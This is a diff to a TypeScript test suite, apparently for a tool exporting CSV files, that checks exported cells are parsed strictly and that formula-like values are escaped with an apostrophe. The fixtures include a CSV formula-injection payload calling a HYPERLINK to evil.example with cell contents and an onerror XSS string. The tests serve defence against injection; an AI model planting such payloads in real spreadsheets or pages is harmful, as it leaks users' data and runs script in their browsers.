@@ -212,21 +212,20 @@ describe('drawio', () => {
   });
 });
 
+/** Rows as a strict parser, not ours, reads them. */
+const rowsOf = (a: Artefact): string[][] =>
+  parse<string[]>(a.body as string, { relax_quotes: false, record_delimiter: '\r\n' });
+
 describe('csv', () => {
   it('is read by a strict parser, and no cell begins like a formula', () => {
     for (const a of artefacts(nasty, 'csv')) {
-      const rows = parse(a.body as string, {
-        bom: false,
-        relax_quotes: false,
-        record_delimiter: '\r\n',
-      }) as string[][];
-      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      for (const cell of rowsOf(a).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     }
   });
 
   it('keeps what a cell says, behind an apostrophe where it would run', () => {
     const vpcs = artefacts(nasty, 'csv').find((a) => a.name === 'peerless-vpcs.csv')!;
-    const names = (parse(vpcs.body as string) as string[][]).map((row) => row[1]);
+    const names = rowsOf(vpcs).map((row) => row[1]);
     expect(names).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
     expect(names).toContain('"><img src=x onerror=alert(1)>');
   });
